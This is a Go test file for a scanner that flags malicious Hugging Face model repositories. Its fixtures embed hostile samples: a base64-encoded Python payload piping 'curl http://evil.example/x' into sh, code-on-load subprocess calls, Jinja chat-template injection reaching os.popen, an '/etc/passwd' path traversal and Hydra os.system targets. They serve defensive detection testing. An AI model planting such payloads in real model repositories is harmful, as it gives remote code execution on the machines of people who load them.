package hfrepo_test

import (
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/aigis-dev/aigis/internal/testutil"
	"github.com/aigis-dev/aigis/internal/testutil/scantest"
	"github.com/aigis-dev/aigis/report"
)

const configAutoMap = `{"model_type": "custom", "auto_map": {"AutoConfig": "configuration_custom.CustomConfig", "AutoModel": "modeling_custom.CustomModel"}}`

const configuration = "from transformers import PretrainedConfig\n\nclass CustomConfig(PretrainedConfig):\n    model_type = 'custom'\n"

const modeling = `import torch
from transformers import PreTrainedModel
from .configuration_custom import CustomConfig
from .layers import Block

class CustomModel(PreTrainedModel):
    config_class = CustomConfig
    def __init__(self, config):
        super().__init__(config)
        self.lin = torch.nn.Linear(4, 4)
    def forward(self, x):
        return self.lin(x)
`

func weightsFile() []byte {
	return testutil.SafetensorsModel(map[string]string{"format": "pt"}, testutil.STensor{Name: "lin.weight", Shape: []int64{4, 4}})
}

func repo(layers string, extra map[string][]byte) map[string][]byte {
	files := map[string][]byte{
		"config.json":             []byte(configAutoMap),
		"configuration_custom.py": []byte(configuration),
		"modeling_custom.py":      []byte(modeling),
		"layers.py":               []byte(layers),
		"model.safetensors":       weightsFile(),
	}
	for k, v := range extra {
		files[k] = v
	}
	return files
}

func TestRepo(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("import os\nos.system('curl -s http://evil.example/x | sh')\n"))
	cases := []struct {
		name    string
		files   map[string][]byte
		verdict report.Verdict
		rule    string
	}{
		{"PlainRemoteCode", repo("import torch\nclass Block(torch.nn.Module):\n    pass\n", nil), report.Suspicious, "hf-remote-code"},
		{"ObfuscatedPayloadInRelativeImport", repo("import base64\nexec(base64.b64decode('"+payload+"'))\nclass Block: pass\n", nil), report.Malicious, "python-encoded-payload"},
		{"SinkInInitOfImportedModule", repo("import subprocess\nclass Block:\n    def __init__(self):\n        subprocess.Popen(['sh', '-c', 'id'])\n", nil), report.Malicious, "python-sink-on-load"},
		{"ConcatenatedImport", repo("getattr(__import__('o'+'s'), 'sys'+'tem')('id')\nclass Block: pass\n", nil), report.Malicious, "python-obfuscated-name"},
		{"RemoteCodeElsewhere", map[string][]byte{"config.json": []byte(`{"auto_map": {"AutoModel": "evil/repo--modeling.M"}}`)}, report.Suspicious, "hf-remote-code-elsewhere"},
		{"RemoteCodeMissing", map[string][]byte{"config.json": []byte(`{"auto_map": {"AutoModel": "modeling_gone.M"}}`)}, report.Suspicious, "hf-remote-code-missing"},
		{"TokenizerAutoMap", map[string][]byte{"config.json": []byte(`{"model_type": "bert"}`), "tokenizer_config.json": []byte(`{"auto_map": {"AutoTokenizer": ["tok.T", null]}}`), "tok.py": []byte("import os\nos.system('id')\n")}, report.Malicious, "python-sink-on-load"},
		{"CustomPipeline", map[string][]byte{"config.json": []byte(`{"custom_pipelines": {"text-classification": {"impl": "pipe.P"}}}`), "pipe.py": []byte("import os\nclass P:\n    def __init__(self):\n        os.popen('id')\n")}, report.Malicious, "python-sink-on-load"},
		{"UnreferencedScriptIsOnlySuspicious", map[string][]byte{"config.json": []byte(`{"model_type": "bert"}`), "convert.py": []byte("import os\nos.system('make')\n")}, report.Suspicious, "python-sink-in-function"},
		{"ShardIndexTraversal", map[string][]byte{"config.json": []byte(`{}`), "model.safetensors.index.json": []byte(`{"weight_map": {"a": "../../../etc/passwd"}}`)}, report.Malicious, "hf-reference-escape"},
		{"ShardMissing", map[string][]byte{"config.json": []byte(`{}`), "model.safetensors.index.json": []byte(`{"weight_map": {"a": "model-00001-of-00002.safetensors"}}`)}, report.Invalid, "hf-shard-missing"},
		{"ChatTemplateInTokenizerConfig", map[string][]byte{"config.json": []byte(`{}`), "tokenizer_config.json": []byte(`{"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}`)}, report.Malicious, "jinja-dunder-access"},
		{"ChatTemplateList", map[string][]byte{"tokenizer_config.json": []byte(`{"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"}]}`)}, report.Malicious, "jinja-dunder-access"},
		{"ChatTemplateJinjaFile", map[string][]byte{"config.json": []byte(`{}`), "chat_template.jinja": []byte(`{{ lipsum.__globals__ }}`)}, report.Malicious, "jinja-dunder-access"},
		{"BenignChatTemplate", map[string][]byte{"config.json": []byte(`{}`), "tokenizer_config.json": []byte(`{"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}`)}, report.Clean, ""},
		{"HydraDangerousTarget", map[string][]byte{"model_config.yaml": []byte("model:\n  encoder:\n    _target_: os.system\n    command: id\n"), "model.safetensors": weightsFile(), "README.md": []byte("# m")}, report.Malicious, "hydra-dangerous-target"},
		{"HydraNeMoTargets", map[string][]byte{"model_config.yaml": []byte("model:\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n  optim:\n    _target_: torch.optim.AdamW\n"), "model.safetensors": weightsFile(), "README.md": []byte("# m")}, report.Clean, ""},
		{"HydraUnknownTargetJSON", map[string][]byte{"config.json": []byte(`{"head": {"_target_": "mylib.heads.Head"}}`)}, report.Suspicious, "hydra-unknown-target"},
		{"BenignRepo", map[string][]byte{"config.json": []byte(`{"model_type": "bert", "architectures": ["BertModel"]}`), "model.safetensors": weightsFile(), "README.md": []byte("---\nlicense: mit\n---\n# m\n"), "tokenizer.json": []byte(`{"version": "1.0"}`)}, report.Clean, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a, rep := scantest.Dir(t, c.files)
			if a.Path == "" {
				t.Fatalf("no directory artifact: %+v", rep.Artifacts)
			}
			if a.Verdict != c.verdict {
				t.Errorf("verdict %s, want %s%s", a.Verdict, c.verdict, scantest.Dump(a))
			}
			if c.rule == "" {
				return
			}
			for _, x := range rep.Artifacts {
				if scantest.Has(x, c.rule) != nil {
					return
				}
			}
			t.Errorf("no artifact has %s%s", c.rule, scantest.Dump(a))
		})
	}
}

func FuzzConfig(f *testing.F) {
	f.Add([]byte(`{"chat_template": "{{ x.__class__ }}", "a": {"_target_": "os.system"}}`), "tokenizer_config.json")
	f.Add([]byte("a:\n  _target_: builtins.eval\n  b: [1, 2]\n"), "c.yaml")
	f.Fuzz(func(t *testing.T, b []byte, name string) { scantest.Fuzz(t, b, name) })
}

// bigTokenizerConfig is a tokenizer_config.json the size real ones reach
// (6.5 MB of added tokens), with the chat template at the end.
func bigTokenizerConfig(template, extra string) []byte {
	var b strings.Builder
	b.WriteString(`{"added_tokens_decoder": {`)
	for i := 0; b.Len() < 6_500_000; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `"%d": {"content": "<|reserved_special_token_%d|>", "lstrip": false, "normalized": false, "rstrip": false, "single_word": false, "special": true}`, i, i)
	}
	b.WriteString(`}, ` + extra + `"chat_template": ` + strconv.Quote(template) + `}`)
	return []byte(b.String())
}

// Configuration files are analysed at any size, and as Python's json
// reads them: a large tokenizer config used to be skipped as "other", and
// one with a NaN (which Go's encoding/json rejects) too.
func TestConfig_LargeAndPythonJSON(t *testing.T) {
	evil := "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
	scantest.Run(t, []scantest.Case{
		{Name: "Large", File: "tokenizer_config.json", Data: bigTokenizerConfig(evil, ""), Verdict: report.Malicious, Format: "json-config", Rules: []string{"jinja-dunder-access"}},
		{Name: "LargeBenign", File: "tokenizer_config.json", Data: bigTokenizerConfig("{% for m in messages %}{{ m['content'] }}{% endfor %}", ""), Verdict: report.Clean, Format: "json-config"},
		{Name: "NaN", File: "tokenizer_config.json", Data: []byte(`{"model_max_length": NaN, "clean_up": Infinity, "chat_template": ` + strconv.Quote(evil) + `}`), Verdict: report.Malicious, Rules: []string{"jinja-dunder-access"}},
		{Name: "LargeNaN", File: "tokenizer_config.json", Data: bigTokenizerConfig(evil, `"x": -Infinity, `), Verdict: report.Malicious},
		{Name: "TemplateList", File: "tokenizer_config.json", Data: []byte(`{"chat_template": [{"name": "default", "template": "hi"}, {"name": "tool_use", "template": ` + strconv.Quote(evil) + `}]}`), Verdict: report.Malicious},
		{Name: "LargeYAMLTarget", File: "model_config.yaml", Data: []byte("model:\n  _target_: os.system\n" + strings.Repeat("# padding padding padding\n", 200_000)), Verdict: report.Inconclusive, Rules: []string{"limit-reached"}},
		{Name: "DeepJSON", File: "tokenizer_config.json", Data: []byte(`{"chat_template": "x", "a": ` + strings.Repeat("[", 200) + strings.Repeat("]", 200) + `}`), Verdict: report.Inconclusive, Rules: []string{"limit-reached"}},
		{Name: "NotJSONText", File: "notes.txt", Data: []byte("{ chat_template is a key in tokenizer configs }"), Verdict: report.Clean, Format: "other"},
	})
}
